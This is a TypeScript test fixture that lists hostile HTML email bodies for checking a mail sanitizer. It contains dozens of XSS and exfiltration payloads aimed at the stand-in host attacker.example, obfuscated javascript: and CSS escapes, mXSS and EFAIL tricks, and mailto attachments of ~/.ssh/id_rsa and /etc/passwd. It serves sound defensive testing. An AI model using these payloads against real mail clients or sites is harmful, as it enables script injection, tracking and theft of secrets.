// Hostile mail bodies (security checklist, section C). Each: a name, the sender's HTML, and a
// harmless text that must still show. Every address an attack would reach is on
// attacker.example, so a test (here, or later in a real browser watching the network) can
// require that it appears nowhere in the output and is never contacted.

export const attackerHost = 'attacker.example';

export type HostileHtml = readonly [name: string, html: string, harmlessText: string];

export const hostileHtml: readonly HostileHtml[] = [
  ['script element', `<p>Hello script</p><script>fetch('https://attacker.example/script')</script>`, 'Hello script'],
  [
    'onerror handler',
    `<img src="x" onerror="fetch('https://attacker.example/onerror')"><p onclick="fetch('https://attacker.example/onclick')">Hello onerror</p>`,
    'Hello onerror',
  ],
  [
    'meta refresh',
    `<meta http-equiv="refresh" content="0;url=https://attacker.example/refresh"><p>Hello refresh</p>`,
    'Hello refresh',
  ],
  [
    'iframe srcdoc',
    `<iframe srcdoc="<img src=https://attacker.example/srcdoc onerror=alert(1)>"></iframe><p>Hello srcdoc</p>`,
    'Hello srcdoc',
  ],
  ['iframe src', `<iframe src="https://attacker.example/frame"></iframe><p>Hello frame</p>`, 'Hello frame'],
  [
    'object data=javascript:',
    `<object data="javascript:fetch('https://attacker.example/object')">Hello object</object>`,
    'Hello object',
  ],
  [
    'embed',
    `<embed src="https://attacker.example/embed.swf" type="application/x-shockwave-flash"><p>Hello embed</p>`,
    'Hello embed',
  ],
  [
    'a href=javascript:',
    `<a href="javascript:fetch('https://attacker.example/js-link')">Click javascript</a>`,
    'Click javascript',
  ],
  [
    'a href=javascript: hidden by a tab entity',
    `<a href="jav&#x09;ascript:fetch('https://attacker.example/js-tab')">Click tabbed</a>`,
    'Click tabbed',
  ],
  ['smb: link', `<a href="smb://attacker.example/share/run.exe">Open share</a>`, 'Open share'],
  ['ftp: link', `<a href="ftp://attacker.example/file">Open ftp</a>`, 'Open ftp'],
  [
    'file: link',
    `<a href="file:///etc/passwd">Open file</a> <a href="file://attacker.example/x">Open remote file</a>`,
    'Open file',
  ],
  ['img src=file:', `<img src="file:///etc/passwd" alt="passwd"><p>Hello file image</p>`, 'Hello file image'],
  [
    'cid: not in the message',
    `<img src="cid:../../../../etc/passwd"><img src="cid:missing@attacker.example"><p>Hello cid</p>`,
    'Hello cid',
  ],
  [
    'style @import',
    `<style>@import url(https://attacker.example/import.css); @import 'https://attacker.example/plain.css'; p { color: navy }</style><p>Hello import</p>`,
    'Hello import',
  ],
  [
    'style @import written with a CSS escape',
    `<style>@\\69 mport 'https://attacker.example/escaped.css'; @\\000069mport url(https://attacker.example/escaped6.css);</style><p>Hello escaped import</p>`,
    'Hello escaped import',
  ],
  [
    'style url() split by a comment or an escape',
    `<style>p { background: u/**/rl(https://attacker.example/comment.png) } div { background: u\\72l(https://attacker.example/escape.png) }</style><p style="background-image: \\75 rl(https://attacker.example/attr.png)">Hello split url</p>`,
    'Hello split url',
  ],
  [
    'style attribute background:url()',
    `<div style="color: red; background:url('https://attacker.example/bg.png')">Hello background</div>`,
    'Hello background',
  ],
  [
    'style @font-face and image-set',
    `<style>@font-face { font-family: x; src: url(https://attacker.example/font.woff) } p { background-image: image-set('https://attacker.example/set.png' 1x) }</style><p>Hello font</p>`,
    'Hello font',
  ],
  [
    'style with behavior and -moz-binding',
    `<p style="behavior: url(https://attacker.example/x.htc); -moz-binding: url('https://attacker.example/x.xml#x')">Hello binding</p>`,
    'Hello binding',
  ],
  [
    'style element closed early',
    `<style>p { color: red }</style><img src=https://attacker.example/early onerror=alert(1)></style><p>Hello early</p>`,
    'Hello early',
  ],
  [
    'link rel=stylesheet with a tab',
    `<link\trel=stylesheet href=https://attacker.example/link.css><p>Hello link</p>`,
    'Hello link',
  ],
  [
    '1x1 tracking pixel',
    `<p>Hello pixel</p><img src="https://attacker.example/pixel.gif?id=42" width="1" height="1" style="display:none">`,
    'Hello pixel',
  ],
  [
    'srcset',
    `<img srcset="https://attacker.example/srcset.png 1x, https://attacker.example/srcset2.png 2x"><p>Hello srcset</p>`,
    'Hello srcset',
  ],
  [
    'video poster and audio src',
    `<video poster="https://attacker.example/poster.png"><source src="https://attacker.example/v.mp4"></video><audio src="https://attacker.example/a.mp3"></audio><p>Hello poster</p>`,
    'Hello poster',
  ],
  [
    'legacy image attributes',
    `<table background="https://attacker.example/table.png"><tr><td background="https://attacker.example/td.png">Hello legacy</td></tr></table><img lowsrc="https://attacker.example/low.png" dynsrc="https://attacker.example/dyn.avi"><a href="https://example.com/" ping="https://attacker.example/ping">pinged</a>`,
    'Hello legacy',
  ],
  [
    'form action',
    `<form action="https://attacker.example/form" method="post"><input name="q" value="x"><input type="image" src="https://attacker.example/input.png"><button>Send form</button></form>`,
    'Send form',
  ],
  [
    'formaction',
    `<button formaction="https://attacker.example/formaction">Press formaction</button>`,
    'Press formaction',
  ],
  [
    'base href',
    `<base href="https://attacker.example/"><a href="page.html">Relative link</a><img src="pixel.gif">`,
    'Relative link',
  ],
  ['target=_blank', `<a href="https://example.com/" target="_blank" rel="opener">Open blank</a>`, 'Open blank'],
  [
    'window.open',
    `<a href="#top" onclick="window.open('https://attacker.example/open')">Open window</a><script>window.open('https://attacker.example/open2')</script>`,
    'Open window',
  ],
  [
    'EFAIL parts joined into one attribute',
    // What mailparser makes of an HTML part ending inside an attribute, the decrypted part,
    // and a closing part: parts joined with `<br/>\n`, text parts escaped into <p>.
    `<p>Dear Bob,</p><img src="https://attacker.example/efail?<br/>\n<p>The secret plaintext</p><br/>\n"><br/>\n<a href="https://attacker.example/efail-link?<br/>\n<p>More secret</p><br/>\n">x</a>`,
    'Dear Bob,',
  ],
  [
    'mailto with attach',
    `<a href="mailto:bob@example.com?subject=Hi&attach=~/.ssh/id_rsa&Attachment=%2Fetc%2Fpasswd">Mail me</a>`,
    'Mail me',
  ],
  [
    'svg with script and image',
    `<svg><image href="https://attacker.example/svg.png"/><script>fetch('https://attacker.example/svg')</script></svg><p>Hello svg</p>`,
    'Hello svg',
  ],
  [
    'math namespace confusion',
    `<math><mtext><table><mglyph><style><img src=https://attacker.example/mxss onerror=alert(1)></style></mglyph></table></mtext></math><p>Hello math</p>`,
    'Hello math',
  ],
  [
    'HTML comment and CDATA tricks',
    `<!--<img src="--><img src=https://attacker.example/comment onerror=alert(1)//">--><p>Hello comment</p>`,
    'Hello comment',
  ],
];
